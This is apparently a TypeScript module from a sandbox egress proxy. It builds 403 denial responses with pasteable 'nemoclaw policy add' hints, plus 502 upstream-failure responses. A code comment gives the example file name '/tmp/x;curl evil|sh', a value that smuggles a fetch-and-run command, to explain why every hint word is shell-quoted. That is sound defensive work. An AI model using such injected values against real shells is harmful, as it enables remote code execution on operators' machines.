// The answers the proxy gives when it will not carry a request: the policy 403 with a hint an
// operator can paste, the SSRF 403, and the 502s for upstreams that fail. Each is built here once.

import { globEscape } from '../policy/index.ts';
// Hints are pasted into an operator's shell, and a workload picks its own executable path
// (`/tmp/x;curl evil|sh` is a valid file name): every word goes through the one shared quoter.
import { shellWord } from '../state/index.ts';
import type { EgressDecision } from '../policy/index.ts';
import type { SuggestedRule } from './types.ts';
import { Refusal, baseEvent } from './context.ts';
import type { ProxyContext, Req, Tracked } from './context.ts';
import type { Target } from './target.ts';

/** The command that forgets a sandbox's pin of one binary (named in binary_replaced denials). */
export function unpinCommand(sandbox: string, exe?: string): string {
  return exe === undefined ? `nemoclaw ${shellWord(sandbox)} unpin` : `nemoclaw ${shellWord(sandbox)} unpin ${shellWord(exe)}`;
}

export interface DenialText {
  /** The `error` field (default policy_denied). */
  error?: string;
  /** What rule would have allowed this (default: derived from the request). */
  missing?: string;
  /** The command or change that would allow it (default: the proxy's ruleHint, or a `nemoclaw policy add` line). */
  hint?: string;
}

/** The 403 for a denied connection or request: what was refused, why, and what would allow it. */
export function denial(ctx: ProxyContext, t: Tracked, target: Target, d: Pick<EgressDecision, 'rule' | 'reason'>, req?: Req, text: DenialText = {}): Refusal {
  const hostPort = `${target.host}:${target.port}`;
  const l7 = req?.method !== undefined && d.rule !== null;
  const missing = l7 && req
    ? `a rule allowing ${req.method} ${req.path ?? '/'} on ${hostPort}${t.binary ? ` for ${t.binary}` : ''}`
    : `an endpoint ${hostPort}${t.binary ? ` for binary ${t.binary}` : ' (caller unknown)'}`;
  const access = !l7 || req?.method === undefined ? null : ['GET', 'HEAD', 'OPTIONS'].includes(req.method) ? 'read-only' : ['POST', 'PUT', 'PATCH'].includes(req.method) ? 'read-write' : 'full';
  const rule: SuggestedRule = { name: `allow_${target.host.replace(/[^A-Za-z0-9_]/g, '_')}_${target.port}`, host: target.host, port: target.port, binary: t.binary, access };
  const hint = (ctx.opts.ruleHint ?? ((r) => policyAddCommand(ctx.sandbox, r)))(rule);
  return new Refusal(403, {
    error: text.error ?? 'policy_denied',
    host: target.host,
    port: target.port,
    binary: t.binary,
    method: req?.method ?? null,
    path: req?.path ?? null,
    rule_missing: text.missing ?? missing,
    rule: d.rule,
    reason: d.reason,
    hint: text.hint ?? hint,
  });
}

/** The `nemoclaw policy add` line that adds `r` to a supervised sandbox's policy. */
export function policyAddCommand(sandbox: string, r: SuggestedRule): string {
  return `nemoclaw policy add --sandbox ${shellWord(sandbox)} --name ${r.name} --host ${r.host} --port ${r.port}${r.binary ? ` --binary ${shellWord(globEscape(r.binary))}` : ''}${r.access ? ` --access ${r.access}` : ''}`;
}

/**
 * The YAML a one-shot run's policy file needs for `r`: one `network_policies` entry in flow
 * style, so the whole hint is one line that can be pasted under that key.
 */
export function policyFileRule(file: string | null, r: SuggestedRule): string {
  const endpoint = `{ host: ${JSON.stringify(r.host)}, port: ${r.port}${r.access ? `, access: ${r.access}` : ''} }`;
  const binaries = r.binary ? `, binaries: [{ path: ${JSON.stringify(globEscape(r.binary))} }]` : '';
  return `add under network_policies in ${file ?? 'the --policy file'}: ${r.name}: { endpoints: [${endpoint}]${binaries} }`;
}

/**
 * The upstream failed: `connect` when the dial itself failed, `exchange` when the request or its
 * answer did. Reported as egress_error and answered 502.
 */
export function upstreamFailure(ctx: ProxyContext, t: Tracked, target: Target, address: string, phase: 'connect' | 'exchange', code: string, req?: Req): Refusal {
  const reason = phase === 'connect' ? `connect to ${address}:${target.port} failed: ${code}` : `upstream ${address}:${target.port}: ${code}`;
  ctx.emit({ type: 'egress_error', ...baseEvent(t, target, req), verdict: null, rule: null, reason, address });
  return new Refusal(502, { error: phase === 'connect' ? 'upstream_connect_failed' : 'upstream_error', host: target.host, port: target.port, reason });
}

/** A Node error's code, or its message when it has none. */
export function errorCode(err: unknown): string {
  return (err as NodeJS.ErrnoException).code ?? (err as Error).message ?? String(err);
}
